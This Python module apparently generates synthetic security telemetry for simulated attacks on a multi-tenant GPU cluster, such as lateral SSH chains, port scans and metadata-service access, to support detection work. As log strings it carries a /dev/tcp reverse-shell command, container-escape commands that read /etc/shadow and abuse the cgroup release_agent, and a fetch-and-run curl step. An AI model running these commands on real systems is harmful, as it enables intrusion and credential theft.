"""Somebody moves about: to other compartments, from host to host, out of a job."""

from ringfence.synth import data
from ringfence.synth.attacks.base import (
    HOUR,
    MINUTE,
    Attack,
    Made,
    changed,
    host,
    jobs_at,
    last_of,
    outside,
    people,
    pick,
    several,
    spread,
    takes_part,
    until,
)
from ringfence.synth.plan import User
from ringfence.synth.telemetry.block import SENSOR, Row
from ringfence.synth.telemetry.machines import modules
from ringfence.synth.telemetry.people import flow_row, logon, process_row
from ringfence.synth.telemetry.schedule import Run
from ringfence.synth.telemetry.world import Happenings, World, micro
from ringfence.wire.ocsf import classes


def _victim(world: World, attack: Attack, seconds: float = 900) -> tuple[Run, int]:
    run = pick(jobs_at(world, attack.start, seconds), attack, "job")
    return run, run.hosts[attack.place // 5 % len(run.hosts)]


def _others(world: World, tenant: str) -> list[int]:
    """Hosts with accelerators of other tenants."""
    return [at for at, one in enumerate(world.plan.hosts) if one.gpus and one.tenant not in ("", tenant)]


def _who(world: World, run: Run, at: int) -> tuple[str, ...]:
    return host(world, at), run.uid, f"identity:{run.user}"


def cross_compartment_flow(world: World, attack: Attack) -> Made:
    """Connections from one tenant's job to another tenant's nodes."""
    run, at = _victim(world, attack)
    rng, rows, when = attack.dice(), [], attack.start
    targets = several(_others(world, run.tenant), 1 if attack.loudness == "stealthy" else 12, attack)
    for _ in range(attack.count("connections")):
        to = (world.addresses[rng.choice(targets)], rng.choice((22, 8888, 8265, 29500)))
        sent = (rng.randrange(400, 40_000), rng.randrange(300, 90_000))
        if when < min(run.end, world.seconds) - 60:
            rows.append(flow_row(world, at, when, to, sent, "python3", run.user, run.uid))
        when += attack["minutes_apart"] * MINUTE
    return Made(last_of(rows) + 1, _who(world, run, at), tuple(rows))


def cross_compartment_rdma(world: World, attack: Attack) -> Made:
    """Queue pairs to the ports of another tenant's node."""
    run, at = _victim(world, attack, attack["minutes"] * MINUTE)
    end, rng = until(world, attack, attack["minutes"] * MINUTE, run), attack.dice()
    peer = pick(_others(world, run.tenant), attack)
    rows, rails = [], min(int(world.ports[at]), int(world.ports[peer]))
    for turn in range(attack.count("queue_pairs")):
        rail = 1 + turn % rails
        fields: dict[str, str | int | float] = {
            "rdma.qpn": rng.randrange(1000, 1 << 20),
            "rdma.type": "RC",
            "rdma.state": "RTS",
            "rdma.peer": f"ibport:{world.guid(peer, rail)}",
            "rdma.memory": 1 << 30,
            "ib.device": f"mlx5_{rail - 1}",
            "ib.guid": world.guid(at, rail),
            "actor.process.name": "python3",
            "actor.user.name": run.user,
            "job.uid": run.uid,
        }
        for when, activity in ((attack.start + 0.2 * turn, 1), (end, 2)):
            rows.append(Row(micro(when), at, SENSOR["ports"], classes.RDMA, activity, fields))
    more = (changed((at,), attack.start, end, "ib_xmit", "plus", 6.0e9, (0, 1)),)
    return Made(end, _who(world, run, at), tuple(rows), Happenings(more))


def odd_traffic(world: World, attack: Attack) -> Made:
    """A job of this kind has no business at these ports."""
    run, at = _victim(world, attack, attack["hours"] * HOUR)
    end, rng = until(world, attack, attack["hours"] * HOUR, run), attack.dice()
    ports = rng.sample(range(2000, 62_000), attack.count("ports"))
    mates = [one for one, machine in enumerate(world.plan.hosts) if machine.tenant == run.tenant and one != at]
    away = outside(attack)
    rows = []
    for when in spread(rng, attack.start, end, attack.count("connections")):
        to = away if attack.place % 2 or not mates else world.addresses[rng.choice(mates)]
        sent = (rng.randrange(500, 60_000), rng.randrange(500, 60_000))
        rows.append(flow_row(world, at, when, (to, rng.choice(ports)), sent, "python3", run.user, run.uid))
    return Made(end, _who(world, run, at), tuple(rows))


def port_scan(world: World, attack: Attack) -> Made:
    """Many hosts are tried, one after the other; hardly any answers."""
    run, at = _victim(world, attack)
    rng, every = attack.dice(), [one for one in range(len(world.names)) if one != at]
    rows, when = [], attack.start
    port = rng.choice((22, 6817, 2049, 8888, 5000))
    for _ in range(attack.count("targets")):
        if when >= min(run.end, world.seconds) - 60:
            break
        to = (world.addresses[rng.choice(every)], port if attack.loudness == "stealthy" else rng.randrange(1, 10_000))
        answers = rng.random() < 0.05
        sent = (320, 400) if answers else (60, 0)
        rows.append(flow_row(world, at, when, to, sent, "python3", run.user, run.uid, 2 if answers else 4))
        when += attack["seconds_apart"] * rng.uniform(0.7, 1.3)
    return Made(when, _who(world, run, at), tuple(rows))


def _login(world: World, user: User) -> int:
    return world.at[data.login_of(world.plan, user).name]


def lateral_chain(world: World, attack: Attack) -> Made:
    """A stolen key opens one host after the other."""
    user = pick(people(world), attack)
    rng, at, rows, when = attack.dice(), _login(world, user), [], attack.start
    own = [one for one, machine in enumerate(world.plan.hosts) if machine.gpus and machine.tenant == user.tenant]
    others = _others(world, user.tenant)
    chain = [at]
    for turn in range(attack.count("hops")):
        room = own if turn == 0 or rng.random() < 0.6 or not others else others
        to = rng.choice([one for one in room if one not in chain] or own)
        if when >= world.seconds - 120:
            break
        rows.append(flow_row(world, at, when, (world.addresses[to], 22), (30_000, 60_000), "ssh", user.name))
        rows.append(logon(world, to, when + 0.2, user.name, world.addresses[at]))
        rows.append(process_row(to, when + 1, "bash", "-bash", "sshd", user.name))
        rows.append(process_row(to, when + 9, "cat", "cat /etc/hosts", "bash", user.name))
        chain.append(to)
        at = to
        when += attack["minutes_apart"] * MINUTE * rng.uniform(0.8, 1.2)
    end = when - attack["minutes_apart"] * MINUTE * 0.8 + 60
    return Made(end, (f"identity:{user.name}", *(host(world, one) for one in dict.fromkeys(chain[1:]))), tuple(rows))


def stolen_key_login(world: World, attack: Attack) -> Made:
    """Somebody else uses an account's key, from where the account never came."""
    user = pick(people(world), attack)
    at, rng = _login(world, user), attack.dice()
    compute = [one for one, machine in enumerate(world.plan.hosts) if machine.gpus]
    source = world.addresses[rng.choice(compute)] if attack["from_inside"] else outside(attack)
    rows, when = [], attack.start
    for _ in range(attack.count("logins")):
        rows.append(logon(world, at, when, user.name, source))
        rows.append(process_row(at, when + 0.4, "bash", "-bash", "sshd", user.name))
        rows.append(process_row(at, when + 6, "ls", "ls -la", "bash", user.name))
        when += rng.uniform(10, 120)
    return Made(when, takes_part(world, at, f"identity:{user.name}"), tuple(rows))


def service_account_login(world: World, attack: Attack) -> Made:
    """A service's account logs in where people do."""
    group = pick(world.plan.tenants, attack)
    account, rng = f"svc-{group.name}", attack.dice()
    nodes = [*world.of_role("login"), *(at for at, one in enumerate(world.plan.hosts) if one.tenant == group.name)]
    at = pick(nodes, attack)
    from_ = rng.choice([one for one in nodes if one != at] or nodes)
    rows, when = [], attack.start
    for _ in range(attack.count("logins")):
        rows.append(logon(world, at, when, account, world.addresses[from_]))
        rows.append(process_row(at, when + 0.5, "bash", "-bash", "sshd", account))
        when += rng.uniform(5, 90)
    return Made(when, takes_part(world, at, f"identity:{account}"), tuple(rows))


def reverse_shell(world: World, attack: Attack) -> Made:
    """A shell in a job whose ends lead outside."""
    run, at = _victim(world, attack, attack["minutes"] * MINUTE)
    end, rng = until(world, attack, attack["minutes"] * MINUTE, run), attack.dice()
    away, loud = outside(attack), attack.loudness == "loud"
    command = f"bash -i >& /dev/tcp/{away}/4444 0>&1" if loud else "sh -i"
    name = "bash" if loud else "sh"
    rows = [process_row(at, attack.start, name, command, "python3", run.user, run.uid, f"/bin/{name}")]
    to = (away, 4444 if loud else 443)
    for turn in range(max(1, int((end - attack.start) / MINUTE))):
        half = int(attack["bytes_per_minute"] * rng.uniform(0.3, 0.7))
        when = attack.start + MINUTE * (turn + 0.5) + rng.random()
        rows.append(flow_row(world, at, when, to, (half, half // 2), name, run.user, run.uid, 6))
        if rng.random() < (0.8 if loud else 0.15):
            tool = rng.choice(("id", "ls", "ps", "cat", "hostname"))
            rows.append(process_row(at, when + 1, tool, tool, name, run.user, run.uid))
    return Made(end, _who(world, run, at), tuple(rows))


def metadata_service_access(world: World, attack: Attack) -> Made:
    """A job asks the cloud's metadata service for credentials."""
    run, at = _victim(world, attack)
    rng, rows = attack.dice(), []
    for when in spread(rng, attack.start, attack.start + 2 * attack.count("requests"), attack.count("requests")):
        sent = (180, rng.randrange(300, 1600))
        rows.append(flow_row(world, at, when, ("169.254.169.254", 80), sent, "python3", run.user, run.uid))
    return Made(last_of(rows) + 1, _who(world, run, at), tuple(rows))


_STEPS = (
    ("nsenter", "nsenter --target 1 --mount --pid -- sh"),
    ("mount", "mount /dev/nvme0n1p2 /mnt"),
    ("chroot", "chroot /mnt sh"),
    ("unshare", "unshare -UrmC sh"),
    ("sh", "sh -c 'echo /tmp/x > /sys/fs/cgroup/release_agent'"),
    ("sh", "sh -c 'cat /proc/1/root/etc/shadow'"),
    ("ctr", "ctr -a /run/containerd/containerd.sock containers ls"),
    ("insmod", "insmod /tmp/x.ko"),
)


def container_escape(world: World, attack: Attack) -> Made:
    """A process of a job becomes root on the host."""
    run, at = _victim(world, attack)
    rows = []
    for turn, (name, command) in enumerate(attack.dice().sample(_STEPS, attack.count("steps"))):
        row = process_row(at, attack.start + 7 * turn, name, command, "bash", "root", run.uid)
        cgroup = f"/slurm/job_{run.uid.rpartition('/')[2]}"
        fields = {**row.fields, "process.cgroup": cgroup, "actor.user.name": run.user}
        rows.append(Row(row.time, row.host, row.sensor, row.class_uid, row.activity, fields))
    return Made(attack.start + 7 * len(rows), _who(world, run, at), tuple(rows))


def poisoned_image_start(world: World, attack: Attack) -> Made:
    """The first minute of a job whose image was poisoned: something is fetched from outside, and run."""
    many = attack.count("nodes")
    runs = [run for run in world.runs if run.image and run.uid.startswith("job:") and run.start >= attack.start]
    runs = [run for run in runs if run.start < world.seconds - 900 and run.kind != "cpu"]
    enough = [run for run in runs if len(run.hosts) >= many] or sorted(runs[:50], key=lambda run: -len(run.hosts))
    run = pick(enough[:5], attack, "job")
    rows, hosts = [], run.hosts[:many]
    for turn, at in enumerate(hosts):
        for number in range(attack.count("downloads")):
            when = run.start + 9 + 0.3 * turn + 4 * number
            to = (outside(attack, number), 443)
            rows.append(process_row(at, when, "curl", f"curl -s https://{to[0]}/a", "python3", run.user, run.uid))
            rows.append(flow_row(world, at, when + 1, to, (900, 400_000), "curl", run.user, run.uid))
            path = f"/var/lib/u{number}"
            rows.append(process_row(at, when + 2, f"u{number}", path, "python3", run.user, run.uid, path))
    entities = (run.uid, f"identity:{run.user}", *(host(world, at) for at in hosts))
    return Made(run.start + 60.0, entities, tuple(rows), start=run.start + 8.0)


def kernel_module_loaded(world: World, attack: Attack) -> Made:
    """A module that nobody needs is loaded, signed or not."""
    _, at = _victim(world, attack)
    rng = attack.dice()
    some = ("kvmx", "netf", "ucore", "pcid")
    names = tuple(f"{rng.choice(some)}{rng.randrange(10)}" for _ in range(attack.count("modules")))
    signed = "true" if attack["signed"] else "false"
    rows = [process_row(at, attack.start - 1, "insmod", f"insmod {names[0]}.ko", "bash", "root")]
    rows += list(modules(world, at, attack.start, names, signed))
    return Made(attack.start + 5, (host(world, at),), tuple(rows))
